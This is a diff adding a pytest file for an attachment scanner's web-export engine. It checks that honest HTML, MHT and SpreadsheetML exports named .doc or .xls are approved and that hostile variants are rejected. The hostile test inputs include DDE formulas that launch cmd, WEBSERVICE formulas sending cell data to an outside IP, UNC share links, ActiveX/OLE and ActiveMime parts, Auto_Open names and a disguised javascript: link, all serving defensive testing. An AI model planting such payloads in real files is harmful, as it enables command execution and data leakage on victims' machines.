@@ -1,0 +1,300 @@
+"""Web-export engine: "Export to Word/Excel" files (an HTML page or MHT archive named .doc or
+.xls, an Excel 2003 XML workbook named .xls), approved when honest and rejected with the code an
+.docx/.xlsx holding the same thing gets. Built here, as the exporters write them (jQuery
+wordexport's MHT, SheetJS's HTML table and SpreadsheetML); scanned through the whole scanner
+(every engine but ClamAV in-process; a real clamd in the integration test).
+"""
+
+from __future__ import annotations
+
+import base64
+from collections.abc import Iterator
+
+import pytest
+
+from attachguard.clamav.client import ClamdClient
+from attachguard.engines import webexport
+from attachguard.engines.filetype import ACCEPTED, OFFICE_PAGES
+from attachguard.pipeline import Scanner
+from attachguard.policy import Policy
+from attachguard.report import Report, Status
+from attachguard.scanner import build_scanner
+
+WORD_NS = (
+    "xmlns:o='urn:schemas-microsoft-com:office:office' "
+    "xmlns:w='urn:schemas-microsoft-com:office:word' "
+    "xmlns:v='urn:schemas-microsoft-com:vml' xmlns='http://www.w3.org/TR/REC-html40'"
+)
+EXCEL_NS = (
+    'xmlns:o="urn:schemas-microsoft-com:office:office" '
+    'xmlns:x="urn:schemas-microsoft-com:office:excel" xmlns="http://www.w3.org/TR/REC-html40"'
+)
+TICKET = (
+    "<h1>Case 8812</h1><p>Customer: Jane Doe</p><table border='1'><tr><th>Item</th>"
+    "<th>Total</th></tr><tr><td>Widget</td><td>19.98</td></tr></table>"
+    "<p><a href='https://support.example.com/t/8812'>Open ticket</a></p>"
+)
+PNG = base64.b64decode(
+    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
+)
+
+
+def word_html(body: str = TICKET, head: str = "") -> bytes:
+    """An HTML page as web applications write one for Word ("Export HTML to Word")."""
+    return (
+        f"\ufeff<html {WORD_NS}><head><meta charset='utf-8'><title>Export</title>"
+        "<!--[if gte mso 9]><xml><w:WordDocument><w:View>Print</w:View></w:WordDocument>"
+        f"</xml><![endif]--><style>body{{font-family:Calibri}}</style>{head}</head>"
+        f"<body>{body}</body></html>"
+    ).encode()
+
+
+def word_mht(body: str = TICKET, parts: tuple[tuple[str, str, bytes], ...] = ()) -> bytes:
+    """An MHT web archive as jQuery wordexport writes one: the page, then its pictures."""
+    boundary = "NEXT.ITEM-BOUNDARY"
+    page = f"<!DOCTYPE html><html><head><meta charset='utf-8'></head><body>{body}"
+    page += "<img src='file:///C:/fake/image1.png' width='120' height='75'></body></html>"
+    out = [
+        "MIME-Version: 1.0",
+        f'Content-Type: multipart/related; boundary="{boundary}";type="text/html"',
+        "",
+        f"--{boundary}",
+        'Content-Type: text/html; charset="utf-8"',
+        "Content-Location: file:///C:/fake/document.html",
+        "",
+        page,
+        "",
+    ]
+    pictures = (("file:///C:/fake/image1.png", "image/png", PNG), *parts)
+    for location, kind, data in pictures:
+        out += [f"--{boundary}", f"Content-Location: {location}", f"Content-Type: {kind}"]
+        out += ["Content-Transfer-Encoding: base64", "", base64.b64encode(data).decode(), ""]
+    out.append(f"--{boundary}--")
+    return "\r\n".join(out).encode()
+
+
+def excel_html(rows: str = "", head: str = "") -> bytes:
+    """An HTML table as "Download as Excel" writes one (Excel's namespaces, a sheet name)."""
+    rows = rows or "<tr><td>ORD-1</td><td>19.98</td><td x:fmla='=SUM(B1:B1)'>19.98</td></tr>"
+    return (
+        f"<html {EXCEL_NS}><head><meta charset='UTF-8'><!--[if gte mso 9]><xml>"
+        "<x:ExcelWorkbook><x:ExcelWorksheets><x:ExcelWorksheet><x:Name>Sheet1</x:Name>"
+        "<x:WorksheetOptions><x:DisplayGridlines/></x:WorksheetOptions></x:ExcelWorksheet>"
+        f"</x:ExcelWorksheets></x:ExcelWorkbook>{head}</xml><![endif]--></head><body><table>"
+        f"<tr><td>Order</td><td>Total</td><td>Sum</td></tr>{rows}</table></body></html>"
+    ).encode()
+
+
+def sheetjs_html(cell: str = "19.98") -> bytes:
+    """SheetJS's ``sheet_to_html`` output: no Office namespace at all."""
+    return (
+        "<html><head><meta charset='utf-8'/><title>SheetJS Table Export</title></head><body>"
+        "<table><tr><td data-t='s' data-v='Order' id='sjs-A1'>Order</td>"
+        f"<td data-t='n' id='sjs-B1'>{cell}</td></tr></table></body></html>"
+    ).encode()
+
+
+def spreadsheetml(cells: str = "", names: str = "", extra: str = "", prolog: str = "") -> bytes:
+    """An Excel 2003 XML workbook (SpreadsheetML) as SheetJS's ``xlml`` writer makes one."""
+    cells = cells or (
+        '<Cell ss:HRef="https://shop.example.com/orders/1001"><Data ss:Type="String">ORD-1'
+        '</Data></Cell><Cell><Data ss:Type="Number">2</Data></Cell>'
+        '<Cell ss:Formula="=RC[-1]*2"><Data ss:Type="Number"></Data></Cell>'
+        '<Cell ss:Formula="=Summary!R1C1"><Data ss:Type="Number"></Data></Cell>'
+    )
+    return (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n'
+        f'{prolog}<?mso-application progid="Excel.Sheet"?>'
+        '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" '
+        'xmlns:o="urn:schemas-microsoft-com:office:office" '
+        'xmlns:x="urn:schemas-microsoft-com:office:excel" '
+        'xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet" '
+        'xmlns:html="http://www.w3.org/TR/REC-html40">'
+        "<DocumentProperties xmlns='urn:schemas-microsoft-com:office:office'><Title>Orders"
+        f"</Title></DocumentProperties><Names>{names}</Names>"
+        f'<Worksheet ss:Name="Orders"><Table><Row>{cells}</Row></Table>{extra}</Worksheet>'
+        '<Worksheet ss:Name="Summary"><Table><Row><Cell><Data ss:Type="String">Total</Data>'
+        "</Cell></Row></Table></Worksheet></Workbook>"
+    ).encode()
+
+
+@pytest.fixture(scope="module")
+def scanner(policy: Policy) -> Iterator[Scanner]:
+    with build_scanner(policy.model_copy(update={"disabled_engines": ["clamav"]}), None) as s:
+        yield s
+
+
+def codes(report: Report) -> set[str]:
+    return {f.code.name for f in report.findings if f.code.default.value == "reject"}
+
+
+HONEST = [
+    ("word_html", "case.doc", word_html()),
+    ("word_html_vml_local_picture", "case.doc", word_html(
+        "<!--[if gte vml 1]><v:shape><v:imagedata src='case_files/image001.png' o:title=''/>"
+        "</v:shape><![endif]-->" + TICKET)),
+    ("word_html_form_posting_out", "case.doc", word_html(
+        "<form action='https://forms.example.com/post' method='post'><input name='user'>"
+        "<input type='password' name='pw'><input type='submit'></form>")),
+    ("word_mht", "case.doc", word_mht()),
+    ("excel_html", "orders.xls", excel_html()),
+    ("excel_html_text_cells", "orders.xls", excel_html(
+        "<tr><td>- item 2 missing | see photo!</td><td>+44 20 7946 0958</td>"
+        "<td>=== totals ===</td></tr>")),
+    ("sheetjs_html", "orders.xls", sheetjs_html()),
+    ("spreadsheetml", "orders.xls", spreadsheetml()),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(("name", "data"), [pytest.param(n, d, id=i) for i, n, d in HONEST])
+def test_honest_exports_are_approved(scanner: Scanner, name: str, data: bytes) -> None:
+    report = scanner.scan(data, name)
+    assert report.status is Status.APPROVED, report.reasons
+
+
+HOSTILE = [
+    ("script", "case.doc", word_html(TICKET + "<script>alert(1)</script>"), "SCRIPT"),
+    ("event_handler", "case.doc", word_html("<body onload='x()'>" + TICKET), "SCRIPT"),
+    ("javascript_link", "case.doc", word_html("<a href='java&#9;script:x()'>go</a>"), "SCRIPT"),
+    ("activex_object", "case.doc", word_html(
+        "<object classid='CLSID:8856F961-340A-11D0-A96B-00C04FD705A2' width=1></object>"),
+     "OLE_OBJECT"),
+    ("ole_object_in_conditional_comment", "case.doc", word_html(
+        "<!--[if gte mso 9]><xml><o:OLEObject Type='Embed' ProgID='Package' "
+        "ShapeID='_x0000_i1025'></o:OLEObject></xml><![endif]-->" + TICKET), "OLE_OBJECT"),
+    ("edit_time_data_link", "case.doc", word_html(
+        head="<link rel=Edit-Time-Data href='case_files/editdata.mso'>"), "VBA_MACRO"),
+    ("mht_editdata_part", "case.doc", word_mht(parts=(
+        ("file:///C:/fake/editdata.mso", "application/x-mso", b"ActiveMime\x00\x00\x01\xf0"),
+    )), "VBA_MACRO"),
+    ("mht_oledata_part", "case.doc", word_mht(parts=(
+        ("file:///C:/fake/oledata.mso", "application/x-mso", b"ActiveMime\x00\x00\x01\xf0"),
+    )), "OLE_OBJECT"),
+    ("mht_active_mime_as_picture", "case.doc", word_mht(parts=(
+        ("file:///C:/fake/image2.png", "image/png", b"ActiveMime\x00\x00\x01\xf0"),
+    )), "OLE_OBJECT"),
+    ("remote_picture", "case.doc", word_html(
+        TICKET + "<img src='http://203.0.113.9/track.png'>"), "EXTERNAL_LINK"),
+    ("remote_picture_in_mht", "case.doc", word_mht(
+        TICKET + "<img src='https://203.0.113.9/track.png'>"), "EXTERNAL_LINK"),
+    ("vml_share", "case.doc", word_html(
+        "<!--[if gte vml 1]><v:shape><v:imagedata src='\\\\203.0.113.9\\s\\a.png'/>"
+        "</v:shape><![endif]-->" + TICKET), "EXTERNAL_LINK"),
+    ("remote_style_sheet", "case.doc", word_html(
+        head="<link rel=stylesheet href='https://203.0.113.9/x.css'>"), "EXTERNAL_LINK"),
+    ("form_to_a_share", "case.doc", word_html(
+        "<form action='\\\\203.0.113.9\\s\\post'><input type='submit'></form>"),
+     "EXTERNAL_LINK"),
+    ("fmla_dde", "orders.xls", excel_html(
+        "<tr><td>1</td><td>2</td><td x:fmla=\"=cmd|' /C calc'!A0\">0</td></tr>"), "DDE"),
+    ("typed_dde_cell", "orders.xls", excel_html(
+        "<tr><td>1</td><td>=cmd|' /C calc'!A0</td></tr>"), "DDE"),
+    ("typed_dde_cell_sheetjs", "orders.xls", sheetjs_html("=1+cmd|' /C calc'!A0"), "DDE"),
+    ("hyperlink_share_cell", "orders.xls", excel_html(
+        "<tr><td>1</td><td>=HYPERLINK(\"\\\\203.0.113.9\\s\\x\",\"open\")</td></tr>"),
+     "EXTERNAL_LINK"),
+    ("webservice_fmla", "orders.xls", excel_html(
+        "<tr><td>1</td><td x:fmla='=WEBSERVICE(\"https://203.0.113.9/?\"&amp;A1)'>0</td></tr>"),
+     "EXTERNAL_LINK"),
+    ("defined_name_dde", "orders.xls", excel_html(head=(
+        "<x:ExcelName><x:Name>Go</x:Name><x:Formula>=cmd|'/c calc'!A0</x:Formula>"
+        "</x:ExcelName>")), "DDE"),
+    ("html_xls_script", "orders.xls", sheetjs_html() + b"<script>x()</script>", "SCRIPT"),
+    ("xml_dde", "orders.xls", spreadsheetml(
+        "<Cell ss:Formula=\"=cmd|'/c calc'!A0\"><Data ss:Type='Number'/></Cell>"), "DDE"),
+    ("xml_dde_escaped", "orders.xls", spreadsheetml(
+        "<Cell ss:Formula=\"=cmd&#124;'/c calc'!A0\"><Data ss:Type='Number'/></Cell>"), "DDE"),
+    ("xml_webservice", "orders.xls", spreadsheetml(
+        "<Cell ss:Formula='=WEBSERVICE(\"https://203.0.113.9/x\")'><Data ss:Type='String'/>"
+        "</Cell>"), "EXTERNAL_LINK"),
+    ("xml_hyperlink_formula_share", "orders.xls", spreadsheetml(
+        "<Cell ss:Formula='=HYPERLINK(\"\\\\203.0.113.9\\s\\x\")'><Data ss:Type='String'/>"
+        "</Cell>"), "EXTERNAL_LINK"),
+    ("xml_workbook_on_share", "orders.xls", spreadsheetml(
+        "<Cell ss:Formula=\"='\\\\203.0.113.9\\s\\[Book.xls]Sheet1'!R1C1\"><Data "
+        "ss:Type='Number'/></Cell>"), "EXTERNAL_LINK"),
+    ("xml_href_share", "orders.xls", spreadsheetml(
+        "<Cell ss:HRef='\\\\203.0.113.9\\s\\x.xls'><Data ss:Type='String'>x</Data></Cell>"),
+     "EXTERNAL_LINK"),
+    ("xml_named_range_dde", "orders.xls", spreadsheetml(
+        names="<NamedRange ss:Name='X' ss:RefersTo=\"=cmd|'/c calc'!A0\"/>"), "DDE"),
+    ("xml_auto_open", "orders.xls", spreadsheetml(
+        names="<NamedRange ss:Name='Auto_Open' ss:RefersTo='=Summary!R1C1'/>"), "XLM_MACRO"),
+    ("xml_macro_sheet", "orders.xls", spreadsheetml(extra=(
+        "<WorksheetOptions xmlns='urn:schemas-microsoft-com:office:excel'><Excel4MacroSheet/>"
+        "</WorksheetOptions>")), "XLM_MACRO"),
+    ("xml_web_query", "orders.xls", spreadsheetml(extra=(
+        "<QueryTable xmlns='urn:schemas-microsoft-com:office:excel'><QuerySource><QueryType>"
+        "Web</QueryType><URLString>https://203.0.113.9/q</URLString></QuerySource>"
+        "</QueryTable>")), "EXTERNAL_LINK"),
+    ("xml_conditional_format_webservice", "orders.xls", spreadsheetml(extra=(
+        "<ConditionalFormatting xmlns='urn:schemas-microsoft-com:office:excel'><Range>C1"
+        "</Range><Condition><Value1>WEBSERVICE(&quot;https://203.0.113.9/&quot;)</Value1>"
+        "</Condition></ConditionalFormatting>")), "EXTERNAL_LINK"),
+    ("xml_broken", "orders.xls", spreadsheetml()[:-40], "CORRUPT"),
+    ("xml_not_a_workbook", "orders.xls", b'<?xml version="1.0"?><orders><o id="1"/></orders>',
+     "TYPE_MISMATCH"),
+    ("xml_under_doc", "case.doc", spreadsheetml(), "TYPE_MISMATCH"),
+    ("html_under_txt", "note.txt", word_html(), "SCRIPT"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "code"), [pytest.param(n, d, c, id=i) for i, n, d, c in HOSTILE]
+)
+def test_hostile_exports_are_rejected_with_their_code(
+    scanner: Scanner, name: str, data: bytes, code: str
+) -> None:
+    report = scanner.scan(data, name)
+    assert report.status is Status.REJECTED
+    assert code in codes(report), report.reasons
+
+
+def test_other_engines_still_read_the_export(scanner: Scanner) -> None:
+    # routed with the text engines, not instead of them: a card number in an exported table
+    report = scanner.scan(sheetjs_html("4111 1111 1111 1111"), "orders.xls")
+    assert codes(report) == {"SENSITIVE_CARD"}, report.reasons
+
+
+def test_a_web_archive_is_read_as_one_whatever_magika_calls_it() -> None:
+    data = word_mht(parts=(("file:///C:/f/editdata.mso", "application/x-mso", b"ActiveMime"),))
+    assert [c.name for c, _ in webexport.read_page(data, sheet=False)] == ["VBA_MACRO"]
+    assert webexport.read_page(word_html(), sheet=False) == []
+
+
+def test_a_dtd_in_an_xml_workbook_is_ambiguous() -> None:
+    # the file-type engine does not take a DOCTYPE before the root for a workbook: the engine
+    # itself says why, should an XML workbook reach it with one
+    data = spreadsheetml(prolog='<!DOCTYPE Workbook [<!ENTITY e "x">]>')
+    assert [code.name for code, _ in webexport.read_workbook(data)] == ["AMBIGUOUS"]
+
+
+def test_a_formula_is_judged_as_the_xlsx_reading_judges_it() -> None:
+    assert webexport.judge_formula("=SUM(A1:A3)") == []
+    assert webexport.judge_formula("=Orders!R[3]C[4]*RC[-1]") == []
+    assert [c.name for c, _ in webexport.judge_formula("=1+cmd|'/c calc'!A0")] == ["DDE"]
+    assert [c.name for c, _ in webexport.judge_formula("=a|b", stored=False)] == []
+
+
+def test_the_engine_reads_what_the_filetype_engine_accepts() -> None:
+    for ext, label in webexport.READINGS:
+        assert label in ACCEPTED[ext]
+        assert label in OFFICE_PAGES.get(ext, frozenset()) or label == "xml"
+
+
+def test_example_files_through_engines_keep_their_messages(scanner: Scanner) -> None:
+    report = scanner.scan(word_html(TICKET + "<script>x()</script>"), "case.doc")
+    (found,) = [f for f in report.findings if f.code.name == "SCRIPT"]
+    assert found.engine == "webexport" and "web page named .doc" in found.message
+
+
+@pytest.mark.integration  # a real clamd: the whole scanner as shipped
+def test_honest_exports_through_the_whole_scanner(
+    policy: Policy, clamd_client: ClamdClient
+) -> None:
+    with build_scanner(policy, clamd_client) as whole:
+        for _, name, data in HONEST:
+            report = whole.scan(data, name)
+            assert report.status is Status.APPROVED, (name, report.reasons)
+        report = whole.scan(word_mht(parts=(("editdata.mso", "application/x-mso", b"x"),)), "a.doc")
+        assert "VBA_MACRO" in codes(report)
